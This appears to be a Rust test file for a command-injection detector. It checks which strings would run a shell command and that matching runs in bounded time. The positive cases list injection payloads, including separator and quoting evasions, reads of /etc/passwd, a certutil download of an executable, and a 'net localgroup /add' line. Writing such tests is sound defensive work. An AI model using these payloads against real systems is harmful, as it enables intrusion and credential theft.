//! Values that run a command, and texts that do not.

use super::*;

fn runs(text: &str) -> bool {
    runs_command(text.as_bytes(), &mut Deadline::unlimited()).is_some()
}

#[test]
fn what_runs_a_command() {
    for text in [
        "127.0.0.1; cat /etc/hosts",
        "x|whoami",
        "x&&uname -a",
        "a\nwhoami",
        "$(id)",
        "`ps aux`",
        "a;! id",
        "a;trap id EXIT",
        "a;for i in a;do id;done",
        "a;while :;do id;done",
        "a;X=1 id",
        "a;wh''oami",
        "a;who$()ami",
        "a;who\\ami",
        "a&wh^oami",
        "a;/b?n/id",
        "a;/usr/bin/[u]name",
        "a;${X}id",
        "a;cat$IFS/etc/passwd",
        "a;{cat,/etc/passwd}",
        "a;\"curl\" http://x.example",
        "a';whoami;'",
        "&docker ps&",
        "; net localgroup x y /add",
        "py''thon -c 'x'",
    ] {
        assert!(runs(text), "{text}");
    }
}

#[test]
fn what_does_not() {
    for text in [
        "",
        ";",
        "bread; butter & jam | honey",
        "A&W",
        "XBOX&PS",
        "date&time",
        "R&D; set up",
        "be|nl",
        "first|last",
        "name|id",
        "see cat; sort of",
        "a | b\n--|--\nsort | time\n",
        "I wrote `cat f | sort` in the readme",
        "Try `cat /etc/hosts | grep localhost` and paste the output.",
        "https://shop.example/list?p=1&last",
        "id;name;amount",
        "text/html;q=0.9,image/webp",
        "\"id\" or \"name\"",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0)",
    ] {
        assert!(!runs(text), "{text}");
    }
}

/// Texts that could make a reader read again what it has read.
#[test]
fn long_texts_are_read_in_linear_time() {
    for piece in [
        "\n", " ", ";net ", ";net \n", ";", ";id", ";'", ";time ", "|time ", "$(", "`", ";[a", ";$@", ";x=1 ",
        "\nsort ", ";{cat,", "&a=", ";/*a?",
    ] {
        let text = piece.repeat(LONGEST / piece.len());
        runs_command(text.as_bytes(), &mut Deadline::unlimited());
        runs_command(format!("some words {text}").as_bytes(), &mut Deadline::unlimited());
    }
}

#[test]
fn any_bytes_at_all() {
    for a in 0..=255u8 {
        for b in 0..=255u8 {
            for text in [&[b';', a, b][..], &[a, b], &[b';', b'i', a, b, b'd'], &[a, b';', b'l', b's', b]] {
                runs_command(text, &mut Deadline::unlimited());
            }
        }
    }
}

#[test]
fn command_lines_as_a_whole() {
    let whole = |text: &str| is_command_line(text.as_bytes(), &mut Deadline::unlimited());
    for text in [
        "zstdcat /var/log/a.zst",
        "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
        "sudo cat /etc/x",
        "ping.exe -n 5 127.0.0.1",
    ] {
        assert!(whole(text), "{text}");
    }
    for text in [
        "cat /etc/fstab explained",
        "ls 300 lexus",
        "cat in the hat",
        "docker basics",
        "sort by date",
        "",
        "-x",
        "what is curl -x",
    ] {
        assert!(!whole(text), "{text}");
    }
}

#[test]
fn wildcards_take_a_bounded_time() {
    // A matcher that tries every length for every `*` would take minutes for these.
    for name in ["**************qj", "*?*?*?*?*?*?*?qj", "c*a*t*?*?*?*?*?z"] {
        assert!(!runs(&format!(";/{name} ").repeat(1000)), "{name}");
    }
    assert!(runs(";/b*n/*a*t -x") && runs(";/usr/bin/w*m? ") && runs(";/bin/??oami"));
}
